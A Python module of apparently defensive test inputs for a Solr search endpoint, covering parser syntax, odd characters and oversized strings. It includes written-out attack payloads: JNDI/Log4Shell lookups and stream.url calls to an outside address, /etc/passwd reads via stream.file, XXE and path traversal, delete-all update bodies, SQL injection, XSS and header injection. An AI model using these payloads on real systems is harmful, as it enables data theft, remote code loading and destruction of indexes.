"""What somebody may type who wants more than a search: text that one part of Solr or another would obey."""

from __future__ import annotations

from itertools import chain, product
from typing import Final

_PARSERS: Final = (
    *("lucene", "edismax", "dismax", "func", "xmlparser", "join from=id to=id", "terms f=id", "term f=id", "raw f=id"),
    *("field f=title", "prefix f=id", "switch case='*:*'", "boost b=9", "frange l=0 u=1", "frange l=0 cache=false"),
    *("parent which='*:*'", "child of='*:*'", "graph from=id to=id", "rerank reRankQuery=*:*", "collapse field=id"),
    *("knn f=coarse topK=9", "vectorSimilarity f=vector minReturn=0", "complexphrase", "surround", "maxscore", "bool"),
    *("mlt qf=title", "geofilt sfield=p pt=0,0 d=1", "hash workers=2 worker=0", "simple", "payload_score f=a func=max"),
    *("cache=false cost=200", "tag=by_color", "ex=by_color", "key=x", "df=id", "q.op=OR", "v=$q", "v=$fq", "v='*:*'"),
    *("_", "type=func v=1", "!lucene", "lucene v=$shards", "significantTerms field=id", "sigmoid", "uuid", "intervals"),
)
LOCAL: Final = tuple(f"{{!{parser}}}*:*" for parser in _PARSERS)

NESTED: Final = (
    '_query_:"{!func}1"',
    '_query_:"{!lucene}*:*"',
    "_query_:{!join from=id to=id}*:*",
    "_val_:1",
    '_val_:"ord(id)"',
    '_val_:"query($q)"',
    "_root_:*",
    "_version_:[0 TO *]",
    "_text_:*",
    "filter(*:*)",
    "{!edismax uf='* _query_' v=$x}",
    "(red) _query_:{!xmlparser v='<MatchAllDocsQuery/>'}",
)

PARAMETERS: Final = (
    *("&fq=*:*", "&q=*:*", "&rows=100000", "&fl=*", "&debug=all", "&echoParams=all", "&wt=xml", "&wt=velocity"),
    *("&shards=127.0.0.1:1/solr/x", "shards=http://192.0.2.1/", "&shards.qt=/update", "&qt=/update", "qt=/admin/cores"),
    *("&stream.body=<delete><query>*:*</query></delete>", "&stream.url=http://192.0.2.1/", "&stream.file=/etc/passwd"),
    *(
        "&commit=true",
        "&json={delete:{query:'*:*'}}",
        "&json.facet={x:'unique(id)'}",
        "&expandMacros=true",
        "&tr=x.xsl",
    ),
    *("fl=[subquery]", "[subquery]", "[child]", "[explain]", "[docid]", "[shard]", "[value v=1]", "[json]", "[core]"),
    *(
        "#fragment",
        "?q=*:*",
        "%26fq%3D*%3A*",
        "%0d%0aHost: x",
        "%00",
        ";fq=*:*",
        "+",
        "%2B",
        "a+b",
        "100%",
        "%zz",
        "%u0041",
    ),
)

MACROS: Final = (
    *("${q}", "${fq}", "${q:*:*}", "${rows}", "${solr.home}", "${java.version}", "${env:PATH}", "${sys:user.home}"),
    *(
        "${jndi:ldap://192.0.2.1/a}",
        "${${lower:j}ndi:ldap://192.0.2.1/a}",
        "$q",
        "$words",
        "$base",
        "$similarity",
        "$$",
    ),
    *("#{7*7}", "{{7*7}}", "<%= 7*7 %>", "$(id)", "`id`", "@{x}", "T(java.lang.Runtime)"),
)

QUERIES: Final = (
    *("*:*", "id:*", "*", "**", "?", "[* TO *]", "{* TO *}", "[a TO b}", "title:red", "embedding:*", "-*:*", "+*:*"),
    *("-red", "+red", "!red", "NOT red", "red AND blue", "red OR blue", "AND", "OR OR OR", "AND NOT", "TO", "&&", "||"),
    *('"', '"red', 'red"', '""', '" "', "'", "''", "(", ")", "()", "((((", "))))", "(red", "red)", "[", "]", "{", "}"),
    *("^", "red^9", "red^1e99", "red^-1", "red~", "red~2", '"red dress"~999999', "~", "/", "/.*/", "/(a+)+$/", "//"),
    *("\\", "\\\\", "red\\", "\\u0041", "\\x00", "a\\ b", ":", "::", "a:b:c", "http://192.0.2.1/", "1=1", "red;", ","),
    *("field:(a b)", "price:[* TO 5]", "in_stock:true", "red ^= 2", "red^=2", "{!}", "{!", "!}", "{!{!}}", "}*:*{"),
)

OTHERS: Final = (
    *(
        "' OR '1'='1",
        "'; DROP TABLE products;--",
        "<script>alert(1)</script>",
        "<MatchAllDocsQuery/>",
        "]]>",
        "<!-- -->",
    ),
    *('<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>', '{"query":"*:*"}', "[1,2,3]", "null", "true"),
    *(
        "NaN",
        "Infinity",
        "-1",
        "1e308",
        "0x10",
        "../../../etc/passwd",
        "..\\..\\",
        "file:///etc/passwd",
        "/dev/null",
        ".",
    ),
    *(
        "__proto__",
        "constructor",
        "self",
        "class",
        "%s%s%n",
        "{0}",
        "{}",
        "\N{SYMBOL FOR UNIT SEPARATOR}",
        "a\x1fb",
        "a|b",
    ),
)

CHARACTERS: Final = (
    *(
        "\x00",
        "a\x00b",
        "\x01\x02\x03",
        "\x1b[31m",
        "\x7f",
        "\r\nX-Injected: 1",
        "a\nb",
        "\t",
        "\u0085",
        "\u2028",
        "\ufeff",
    ),
    *(
        "\u200b",
        "\u202ered",
        "e\u0301",
        "\u0130",
        "ß",
        "ﬁ",
        "ＲＥＤ",
        "🎽",
        "👩‍👩‍👧",
        "\U000e0001",
        "\uffff",
        "\ufdd0",
        "ｒｅｄ：＊",
    ),
    *("“red”", "–red", "…", "＊：＊", "｛！func｝1", "\u037e", "\u1680", "\u3000", "a\u0000\u0000", "\u0600"),
)

LONE_SURROGATES: Final = ("\ud800", "\udfff", "red\ud800", "\udc00\ud800")
"""No text: JSON can write them, UTF-8 cannot."""

LONG: Final = (
    *("a" * 100_000, "a " * 50_000, "(" * 100_000, "\\" * 100_000, '"' * 100_000, "{!func}" * 14_286, "🎽" * 100_000),
    *("a:" * 50_000, "\x00" * 100_000, "red AND " * 12_500),
)

SHORT: Final = tuple(
    dict.fromkeys(
        chain(
            LOCAL,
            NESTED,
            PARAMETERS,
            MACROS,
            QUERIES,
            OTHERS,
            CHARACTERS,
            (f"{before}{{!func}}1" for before in ("red ", "\t", "\x00", "\ufeff", "%20", "+")),
            (
                f"red {what}{after}"
                for what, after in product(("{!join}", "_val_:1", "&fq=*:*"), ("", " dress", "\x00"))
            ),
        )  # fmt: skip
    )
)
"""Each short enough for every parameter."""
